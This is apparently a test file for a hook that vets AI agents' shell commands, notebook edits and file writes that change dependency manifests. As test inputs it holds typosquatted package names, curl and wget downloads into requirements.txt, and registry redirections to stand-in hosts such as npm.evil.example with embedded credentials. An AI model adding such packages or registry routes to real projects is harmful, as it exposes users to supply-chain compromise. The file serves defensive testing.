// An agent that writes dependency files through the shell instead of its edit tool: what the command
// writes is judged as an edit is when the command line shows it (echo, printf, cat, tee, cp), and a
// write Bouncer cannot see before it runs (sed -i, a download, a program's output) is refused.
import assert from "node:assert/strict";
import { mkdirSync, mkdtempSync, readdirSync, statSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";
import { after, before, test } from "node:test";
import { mayChangeDependencies } from "../../../src/doors/hooks/fast.ts";
import { needsJudging } from "../../../src/doors/hooks/triage.ts";
import { FILE_WRITERS, mayBeDependencyFile, type PlacedCommand, shellWrites, type WriteContext } from "../../../src/doors/hooks/shell-writes.ts";
import { REGISTRY_COMMANDS } from "../../../src/ecosystems/installers.ts";
import { readEntries } from "../../../src/ledger/ledger.ts";
import { allExtractors } from "../../../src/engine/scan.ts";
import { markdownExtractor, transcriptExtractor } from "../../../src/extract/text.ts";
import { splitShellCommands } from "../../../src/extract/shell.ts";
import { type CliEnv, startCliEnv } from "../../support/cli-env.ts";
import { cli } from "../cli/run.ts";

const READS = allExtractors().filter((e) => e !== markdownExtractor && e !== transcriptExtractor);
const REGISTRY_CONFIGS = REGISTRY_COMMANDS;
const isJudged = (file: string) => READS.some((e) => e.matches(file)) || REGISTRY_CONFIGS.some((c) => c.matches(file));

function writesOf(line: string, files: Record<string, string> = {}, folders: string[] = []) {
  const ctx: WriteContext = {
    isJudged,
    readProjectFile: (file) => (file.startsWith("/p/") ? files[file.slice(3)] : undefined),
    isFolder: (file) => folders.includes(file),
    mustSee: (file) => !/\.(?:py|js|ts)$/.test(file),
  };
  const commands: PlacedCommand[] = splitShellCommands(line).map((command) => ({ command, dir: "/p" }));
  return shellWrites(commands, ctx);
}

test("writes whose text the command line shows become file changes", () => {
  assert.deepEqual(writesOf("echo 'reqeusts==2.31.0' >> requirements.txt").changes, [
    { op: "edit", file: "/p/requirements.txt", edits: [{ old: "", new: "reqeusts==2.31.0\n" }] },
  ]);
  assert.deepEqual(writesOf("printf '%s\\n' flask fastapi-auth > requirements.txt").changes, [{ op: "write", file: "/p/requirements.txt", content: "flask\nfastapi-auth\n" }]);
  assert.deepEqual(writesOf("cat > package.json <<'EOF'\n{\"dependencies\":{\"reactt\":\"1.0.0\"}}\nEOF").changes, [
    { op: "write", file: "/p/package.json", content: '{"dependencies":{"reactt":"1.0.0"}}\n' },
  ]);
  assert.deepEqual(writesOf("tee -a requirements.txt <<< 'torch-utils'").changes, [{ op: "edit", file: "/p/requirements.txt", edits: [{ old: "", new: "torch-utils\n" }] }]);
  assert.deepEqual(writesOf("cp template/package.json .", { "template/package.json": "{}" }, ["/p"]).changes, [{ op: "write", file: "/p/package.json", content: "{}" }]);
  assert.deepEqual(writesOf("cat extra.txt >> requirements.txt", { "extra.txt": "numpyy\n" }).changes, [
    { op: "edit", file: "/p/requirements.txt", edits: [{ old: "", new: "numpyy\n" }] },
  ]);
  assert.deepEqual(writesOf("echo 'import fakelib' >> app.py").changes.map((c) => c.op === "edit" && c.file), ["/p/app.py"]);
  // A script run by a shell, its output into a manifest: not known, so unseen.
  assert.deepEqual(writesOf("bash -c 'echo x' >> requirements.txt").unseen.map((u) => u.file), ["/p/requirements.txt"]);
});

test("writes Bouncer cannot see before they run are named with how", () => {
  const unseen = (line: string) => writesOf(line).unseen.map((u) => `${path.basename(u.file)}: ${u.how}`);
  assert.deepEqual(unseen("sed -i 's/flask/flaskk/' requirements.txt"), ["requirements.txt: edits it in place with sed"]);
  assert.deepEqual(unseen("perl -pi -e 's/a/b/' pyproject.toml"), ["pyproject.toml: edits it in place with perl"]);
  assert.deepEqual(unseen("curl -sSL https://example.com/reqs -o requirements.txt"), ["requirements.txt: downloads it with curl"]);
  assert.deepEqual(unseen("wget https://example.com/requirements.txt"), ["requirements.txt: downloads it with wget"]);
  assert.deepEqual(unseen("jq '.dependencies.x=\"1\"' package.json > package.json"), ["package.json: writes the output of `jq` to it"]);
  assert.deepEqual(unseen('echo "$PKG" >> requirements.txt'), ["requirements.txt: writes the output of `echo` to it"]);
  assert.deepEqual(unseen("echo -e 'a\\nb' >> requirements.txt"), ["requirements.txt: writes the output of `echo` to it"]);
  assert.deepEqual(unseen("echo x > $DIR/requirements.txt"), ["requirements.txt: writes to a path known only when it runs"]);
  assert.deepEqual(unseen("cp ~/elsewhere/package.json package.json"), ["package.json: copies a file from outside the project, or one Bouncer cannot read, to it"]);
  assert.deepEqual(unseen("some-generator 2> requirements.txt"), ["requirements.txt: writes the output of `some-generator` to it"]);
  // A source file's imports install nothing: an in-place edit there passes (the edit tool's would be judged).
  assert.deepEqual(unseen("sed -i 's/old/new/' src/app.py"), []);
  // A patch names its files: a dependency file it changes is refused (its result is not computed).
  const diff = "--- a/package.json\n+++ b/package.json\n@@ -1 +1 @@\n-{}\n+{\"dependencies\":{\"expresss\":\"1\"}}\n--- a/src/app.ts\n+++ b/src/app.ts\n";
  assert.deepEqual(unseen(`git apply <<'EOF'\n${diff}EOF`), ["package.json: changes it with a patch (git apply)"]);
  assert.deepEqual(writesOf("patch -p1 < fix.diff", { "fix.diff": diff }).unseen.map((u) => `${path.basename(u.file)}: ${u.how}`), ["package.json: changes it with a patch (patch)"]);
  assert.deepEqual(writesOf("git apply fix.diff", { "fix.diff": diff }).unseen.map((u) => `${path.basename(u.file)}: ${u.how}`), ["package.json: changes it with a patch (git apply)"]);
  assert.deepEqual(writesOf("git apply --check fix.diff", { "fix.diff": diff }).unseen, []);
  // A script on an interpreter's command line that writes, and names a dependency file.
  assert.deepEqual(unseen(`node -e "const fs=require('fs'); fs.writeFileSync('package.json', '{}')"`), ["package.json: may write it with a node script"]);
  assert.deepEqual(unseen(`python3 -c "open('requirements.txt', 'a').write('reqeusts')"`), ["requirements.txt: may write it with a python3 script"]);
  assert.deepEqual(unseen(`node -e "console.log(require('./package.json').version)"`), []);
});

test("what a command line is taken to write is bounded: a format repeated over many arguments is not guessed", () => {
  const line = `printf '${"A".repeat(2000)}%s\\n' ${Array.from({ length: 4000 }, (_, i) => `a${i}`).join(" ")} > requirements.txt`;
  const w = writesOf(line);
  assert.deepEqual([w.changes.length, w.unseen.map((u) => u.how)], [0, ["writes the output of `printf` to it"]]);
});

test("writes to other files, descriptors and /dev/null are not dependency writes", () => {
  for (const line of ["git status > status.txt", "npm test 2>&1 | tail", "ls >/dev/null", "echo hi >&2", "sed -i s/a/b/ README.md", "cp a.txt b.txt", "sed 's/a/b/' requirements.txt"]) {
    const w = writesOf(line);
    assert.deepEqual([w.changes, w.unseen], [[], []], line);
  }
});

test("the filters in front of the engine let through what writes no dependency file, and nothing that does", () => {
  for (const c of ["ls -la 2>&1", "git log > /dev/null", "echo done >&2", "cat README.md"]) assert.equal(mayChangeDependencies(c), false, c);
  for (const c of ["echo x >> requirements.txt", "sed -i s/a/b/ package.json", "cp a package.json", "curl -o r.txt u", "c'u'rl -O u"]) assert.equal(mayChangeDependencies(c), true, c);
  for (const c of ["git status > status.log", "cp a.png b.png", "echo hi > /tmp/notes.md"]) assert.equal(needsJudging(c), false, c);
  for (const c of ["echo x >> requirements.txt", "sed -i s/a/b/ package.json", "cp template/package.json .", "echo x > $F", "tee Dockerfile", "wget https://h/requirements.txt"]) {
    assert.equal(needsJudging(c), true, c);
  }
});

test("the fast path's list of file writers is the shell-writes reader's (kept apart: the fast path loads nothing more)", () => {
  for (const name of FILE_WRITERS) assert.equal(mayChangeDependencies(`${name} x`), true, name);
  assert.equal(mayChangeDependencies(`node -e "require('fs').writeFileSync('package.json', x)"`), true);
  assert.equal(needsJudging(`node -e "require('fs').writeFileSync('package.json', x)"`), true);
  assert.equal(needsJudging("node -e \"console.log(1)\""), false);
});

test("the name filter in front of the engine holds every file the hook judges", () => {
  const names = new Set<string>();
  const walk = (dir: string, depth: number) => {
    for (const name of readdirSync(dir)) {
      const full = path.join(dir, name);
      if (statSync(full).isDirectory()) {
        if (depth < 6) walk(full, depth + 1);
      } else names.add(path.relative(dir, full).replace(/\\/g, "/")).add(full);
    }
  };
  walk(path.resolve(import.meta.dirname, "../../../../shared/fixtures"), 0);
  walk(path.resolve(import.meta.dirname, "../../fixtures"), 0);
  for (const n of ["requirements/dev.in", "constraints.txt", "pylock.dev.toml", "shrinkwrap.yaml", "bom.json", "x.spdx.json", ".spdx.img.json", "Containerfile.dev", "build.dockerfile", "GNUmakefile", "rules.mk", ".github/workflows/ci.yml", "action.yaml", "app.mts", "App.vue", "nb.ipynb", ".gitlab-ci.yml", "setup.sh", ".npmrc", "conf/npmrc", ".yarnrc", ".yarnrc.yml", "bunfig.toml", "pip.conf", "pip.ini", "uv.toml", "Pipfile"]) names.add(n);
  let judged = 0;
  for (const n of names) {
    if (!isJudged(n)) continue;
    judged++;
    assert.ok(mayBeDependencyFile(n), n);
  }
  assert.ok(judged > 100, `${judged} names`);
});

// End to end, through the hook: the agent edits dependency files with shell commands.
let env: CliEnv;
let dir: string;
before(async () => {
  env = await startCliEnv();
  dir = mkdtempSync(path.join(tmpdir(), "shell-writes-"));
  writeFileSync(path.join(dir, "requirements.txt"), "requests==2.31.0\n");
  writeFileSync(path.join(dir, "package.json"), '{ "name": "demo", "version": "1.0.0", "dependencies": {} }\n');
  mkdirSync(path.join(dir, "nb"));
  writeFileSync(path.join(dir, "nb", "explore.ipynb"), JSON.stringify({ cells: [{ cell_type: "code", metadata: {}, source: ["import requests\n"] }], metadata: {}, nbformat: 4, nbformat_minor: 5 }));
});
after(() => env.server.close());

async function hook(toolInput: Record<string, unknown>, tool = "Bash") {
  const stdin = JSON.stringify({ session_id: "s", cwd: dir, hook_event_name: "PreToolUse", tool_name: tool, tool_input: toolInput });
  const run = await cli(["hook", "claude"], { ...env.env, BOUNCER_OFFLINE: "1" }, { stdin, cwd: dir });
  assert.equal(run.code, 0, run.stderr);
  if (!run.stdout) return { decision: "allow", reason: "" };
  const out = JSON.parse(run.stdout) as { hookSpecificOutput: { permissionDecision: string; permissionDecisionReason: string } };
  return { decision: out.hookSpecificOutput.permissionDecision, reason: out.hookSpecificOutput.permissionDecisionReason };
}

test("hook: a hallucinated package appended to requirements.txt is denied; a real one passes", async () => {
  const bad = await hook({ command: "echo fastapi-secure-auth-extension >> requirements.txt" });
  assert.equal(bad.decision, "deny");
  assert.match(bad.reason, /fastapi-secure-auth-extension/);
  assert.match(bad.reason, /requirements\.txt/);
  const good = await hook({ command: "echo 'requests==2.31.0' >> requirements.txt && git add requirements.txt" });
  assert.notEqual(good.decision, "deny", good.reason);
});

test("hook: a manifest written from a here-document is judged; an in-place edit is refused with the way out", async () => {
  const heredoc = await hook({ command: `cat > package.json <<'EOF'\n{ "name": "demo", "version": "1.0.0", "dependencies": { "reactt": "19.2.0" } }\nEOF` });
  assert.equal(heredoc.decision, "deny");
  assert.match(heredoc.reason, /Did you mean "react"/);
  const sed = await hook({ command: "sed -i 's/requests/requestss/' requirements.txt" });
  assert.equal(sed.decision, "deny");
  assert.match(sed.reason, /requirements\.txt: this command edits it in place with sed/);
  assert.match(sed.reason, /with your file-editing tool/);
  // In the decision log too: what was refused, by whom, and why.
  const logged = readEntries(env.env.BOUNCER_HOME!).map((l) => JSON.parse(l) as { door: string; name: string; verdict: string; findings: Array<{ code: string }>; agent?: { name: string; tool: string } });
  const entry = logged.find((e) => e.name === "requirements.txt" && e.door === "agent");
  assert.deepEqual([entry?.verdict, entry?.findings.map((f) => f.code), entry?.agent?.name, entry?.agent?.tool], ["block", ["unverifiable"], "claude", "Bash"]);
  assert.deepEqual(await hook({ command: "sed -n 1,5p requirements.txt > /tmp/head.txt && npm test 2>&1" }), { decision: "allow", reason: "" });
  // An in-place edit of source code passes: its imports install nothing (agents do this all the time).
  assert.deepEqual(await hook({ command: "sed -i 's/debug = True/debug = False/' settings.py" }), { decision: "allow", reason: "" });
  // Written outside the project: nothing this project installs changes.
  assert.deepEqual(await hook({ command: "cp requirements.txt /tmp/requirements.txt && echo reqeusts >> /tmp/requirements.txt" }), { decision: "allow", reason: "" });
});

test("hook: a notebook cell that imports an unknown package is denied; markdown and deletions pass", async () => {
  const notebook = path.join(dir, "nb", "explore.ipynb");
  const bad = await hook({ notebook_path: notebook, new_source: "import fastapi_secure_auth_extension\n", cell_type: "code", edit_mode: "insert" }, "NotebookEdit");
  assert.equal(bad.decision, "deny");
  assert.match(bad.reason, /fastapi[-_]secure[-_]auth[-_]extension/);
  const same = await hook({ notebook_path: notebook, new_source: "import requests\nprint(requests.__version__)\n", cell_id: "c1" }, "NotebookEdit");
  assert.notEqual(same.decision, "deny", same.reason);
  assert.deepEqual(await hook({ notebook_path: notebook, new_source: "# import nothing_here", cell_type: "markdown" }, "NotebookEdit"), { decision: "allow", reason: "" });
  assert.deepEqual(await hook({ notebook_path: notebook, new_source: "", edit_mode: "delete", cell_id: "c1" }, "NotebookEdit"), { decision: "allow", reason: "" });
});

test("hook: a change of where packages come from is the user's: asked in Claude Code, refused in Codex", async () => {
  const write = { file_path: path.join(dir, ".npmrc"), content: "registry=https://ci:s3cr3t-pass@npm.evil.example/\n" };
  const claude = await hook(write, "Write");
  assert.equal(claude.decision, "ask");
  assert.match(claude.reason, /it changes where packages are installed from/);
  assert.match(claude.reason, /\.npmrc gets `registry=https:\/\/\*\*\*@npm\.evil\.example\/`/);
  assert.doesNotMatch(claude.reason, /s3cr3t/);
  assert.match(claude.reason, /ask the user/);
  const asked = readEntries(env.env.BOUNCER_HOME!).map((l) => JSON.parse(l) as { name: string; verdict: string; ecosystem: string });
  assert.ok(asked.some((e) => e.name.startsWith(".npmrc: registry=") && e.verdict === "warn" && e.ecosystem === "npm" && !e.name.includes("s3cr3t")));
  const stdin = JSON.stringify({ session_id: "s", cwd: dir, hook_event_name: "PreToolUse", tool_name: "Bash", tool_input: { command: "echo '--extra-index-url https://pypi.evil.example/simple' >> requirements.txt" } });
  const codex = await cli(["hook", "codex"], { ...env.env, BOUNCER_OFFLINE: "1" }, { stdin, cwd: dir });
  assert.match(codex.stdout, /"permissionDecision":"deny"/);
  assert.match(codex.stdout, /--extra-index-url/);
  // A token for a registry already named changes no route; nor does a comment.
  const token = await hook({ file_path: path.join(dir, ".npmrc"), content: "//registry.npmjs.org/:_authToken=npm-token-value\n# registry=https://x\n" }, "Write");
  assert.deepEqual(token, { decision: "allow", reason: "" });
});
